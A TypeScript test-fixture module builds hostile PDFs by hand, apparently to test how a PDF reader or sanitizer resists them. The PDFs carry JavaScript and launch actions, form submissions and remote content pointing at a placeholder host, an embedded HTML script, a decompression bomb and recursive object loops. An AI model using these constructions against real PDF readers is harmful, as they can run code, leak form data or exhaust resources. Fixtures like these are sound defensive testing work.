// PDFs that want something: scripts, actions, remote content, forms, bombs, knots. Written by hand, so that they are small.
import { deflateSync } from 'node:zlib';

/** Where everything hostile would call, if it could: a name that nobody has (RFC 2606). */
export const ELSEWHERE = 'https://hostile.example.invalid';
/** What a script would leave behind. */
export const MARKER = 'hostileRan';
const SCRIPT = `this.${MARKER}=1; app.alert('x'); app.launchURL('${ELSEWHERE}/js', true); globalThis.${MARKER}=1;`;

type Bytes = Uint8Array | string;
const bytes = (part: Bytes): Buffer => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part));

/** Objects from 1 on, each its own text; the first is the catalog. */
export function pdfOf(
  objects: readonly Bytes[],
  change: (pdf: Buffer, xrefAt: number) => Buffer = (pdf) => pdf,
): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = parts[0]?.length ?? 0;
  const offsets = objects.map((object, index) => {
    const whole = Buffer.concat([bytes(`${index + 1} 0 obj\n`), bytes(object), bytes('\nendobj\n')]);
    const here = at;
    parts.push(whole);
    at += whole.length;
    return here;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    bytes(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return change(Buffer.concat(parts), at);
}

export const streamOf = (dictionary: string, content: Bytes): Buffer =>
  Buffer.concat([
    bytes(`<< ${dictionary} /Length ${bytes(content).length} >>\nstream\n`),
    bytes(content),
    bytes('\nendstream'),
  ]);

/** One page that says its name. Objects 1 to 5 are taken; `more` begins at 6. */
function onePage(
  name: string,
  wish: {
    readonly catalog?: string;
    readonly page?: string;
    readonly resources?: string;
    readonly content?: string;
    readonly more?: readonly Bytes[];
  } = {},
): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${wish.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> ${wish.resources ?? ''} >> ${wish.page ?? ''} >>`,
    streamOf('', `BT /F 18 Tf 60 760 Td (${name}) Tj ET ${wish.content ?? ''}`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...(wish.more ?? []),
  ]);
}

const script = `<< /S /JavaScript /JS (${SCRIPT.replace(/[()\\]/g, '\\$&')}) >>`;
const linked = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 4] /A ${action} >>]`;

/** Decoded, a megabyte of this is a gigabyte: deflated twice. */
const bomb = (): Buffer => deflateSync(deflateSync(Buffer.alloc(200_000_000, ' '), { level: 9 }), { level: 9 });

export const HOSTILE_PDFS: Readonly<Record<string, () => Buffer>> = {
  'open-action': () => onePage('open action', { catalog: `/OpenAction ${script}` }),
  'names-script': () => onePage('names script', { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'additional-actions': () =>
    onePage('additional actions', {
      catalog: `/AA << /WC ${script} /WS ${script} >>`,
      page: `/AA << /O ${script} /C ${script} >>`,
    }),
  launch: () =>
    onePage('launch', {
      catalog: '/OpenAction << /S /Launch /F (/usr/bin/xcalc) /Win << /F (calc.exe) >> >>',
      page: linked('<< /S /Launch /F (/usr/bin/xcalc) >>'),
    }),
  uri: () =>
    onePage('uri', {
      catalog: `/OpenAction << /S /URI /URI (${ELSEWHERE}/open) >>`,
      page: linked(`<< /S /URI /URI (${ELSEWHERE}/link) >>`),
    }),
  'script-uri': () => onePage('script uri', { page: linked(`<< /S /URI /URI (javascript:globalThis.${MARKER}=1) >>`) }),
  'go-to-remote': () =>
    onePage('go to remote', {
      catalog: `/OpenAction << /S /GoToR /F (${ELSEWHERE}/a.pdf) /D [0 /Fit] >>`,
      page: linked(`<< /S /GoToR /F << /FS /URL /F (${ELSEWHERE}/b.pdf) >> /D [0 /Fit] >>`),
    }),
  'submit-form': () =>
    onePage('submit form', {
      catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >> >> /AcroForm << /Fields [6 0 R] /NeedAppearances true >>`,
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (secret) /Rect [60 600 300 640] /AA << /K ${script} /Fo ${script} /C ${script} >> /A << /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >> >> >>`,
      ],
    }),
  'remote-picture': () =>
    onePage('remote picture', {
      resources: '/XObject << /X 6 0 R /Y 7 0 R >>',
      content: 'q 300 0 0 300 60 300 cm /X Do Q /Y Do',
      more: [
        streamOf(
          `/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${ELSEWHERE}/x.png) >>`,
          '',
        ),
        streamOf(
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${ELSEWHERE}/y.pdf) >> /Page 0 >>`,
          '',
        ),
      ],
    }),
  'remote-font': () =>
    onePage('remote font', {
      resources: '/ProcSet [/PDF]',
      more: [
        `<< /Type /FontDescriptor /FontName /Far /Flags 4 /FontFile2 << /F << /FS /URL /F (${ELSEWHERE}/f.ttf) >> >> >>`,
      ],
    }),
  embedded: () =>
    onePage('embedded', {
      catalog: '/Names << /EmbeddedFiles << /Names [(evil.html) 6 0 R] >> >>',
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [60 600 90 630] /FS 6 0 R >> << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]',
      more: [
        '<< /Type /Filespec /F (evil.html) /EF << /F 7 0 R >> >>',
        streamOf('/Type /EmbeddedFile /Subtype /text#2Fhtml', `<script>globalThis.${MARKER}=1</script>`),
      ],
    }),
  xfa: () =>
    onePage('xfa', {
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true',
      more: [
        streamOf(
          '',
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize"><script contentType="application/x-javascript">globalThis.${MARKER}=1</script></event><draw><value><image href="${ELSEWHERE}/xfa.png"/></value></draw></subform></template></xdp:xdp>`,
        ),
      ],
    }),
  'page-tree-knot': () =>
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 4 >>']),
  'form-knot': () =>
    onePage('form knot', {
      resources: '/XObject << /X 6 0 R >>',
      content: '/X Do',
      more: [
        streamOf(
          '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>',
          '/X Do /Y Do',
        ),
        streamOf(
          '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>',
          '/X Do /Y Do /X Do',
        ),
      ],
    }),
  'wrong-xref': () =>
    pdfOf(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
      ],
      (pdf, at) =>
        Buffer.concat([pdf.subarray(0, at + 20), Buffer.from('garbage\n'.repeat(40)), pdf.subarray(at + 30)]),
    ),
  'xref-knot': () =>
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], (pdf, at) =>
      Buffer.from(pdf.toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`), 'latin1'),
    ),
  'huge-page': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9999999999 1] /UserUnit 90000 >>',
    ]),
  'huge-picture': () =>
    onePage('huge picture', {
      resources: '/XObject << /X 6 0 R >>',
      content: 'q 300 0 0 300 60 300 cm /X Do Q',
      more: [
        streamOf(
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
          deflateSync(Buffer.alloc(1_000)),
        ),
      ],
    }),
  'length-lie': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      '<< /Length 1073741824 >>\nstream\n0 0 m 9 9 l S\nendstream',
    ]),
  locked: () =>
    Buffer.from(
      onePage('locked')
        .toString('latin1')
        .replace(
          '/Root 1 0 R',
          `/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
        ),
      'latin1',
    ),
};

/** These take long on purpose; they belong to the soak. */
export const HEAVY_PDFS: Readonly<Record<string, () => Buffer>> = {
  'flate-bomb': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      streamOf('/Filter [/FlateDecode /FlateDecode]', bomb()),
    ]),
  'endless-drawing': () =>
    onePage('endless drawing', {
      resources: `/XObject << ${Array.from({ length: 30 }, (_, at) => `/X${at} ${at + 6} 0 R`).join(' ')} >>`,
      content: '/X0 Do',
      more: Array.from({ length: 30 }, (_, at) =>
        streamOf(
          `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /N ${at < 29 ? at + 7 : 5} 0 R >> >>`,
          '/N Do /N Do /N Do 0 0 m 9 9 l S',
        ),
      ),
    }),
};

/** Pages under each other in one flat list, as the worst writers make it. */
export const manyPages = (count: number): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: count }, (_, at) => `${at + 4} 0 R`).join(' ')}] /Count ${count} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from(
      { length: count },
      (_, at) =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${count + 4 + at} 0 R /Resources << /Font << /F 3 0 R >> >> >>`,
    ),
    ...Array.from({ length: count }, (_, at) => streamOf('', `BT /F 18 Tf 60 760 Td (page ${at + 1}) Tj ET`)),
  ]);
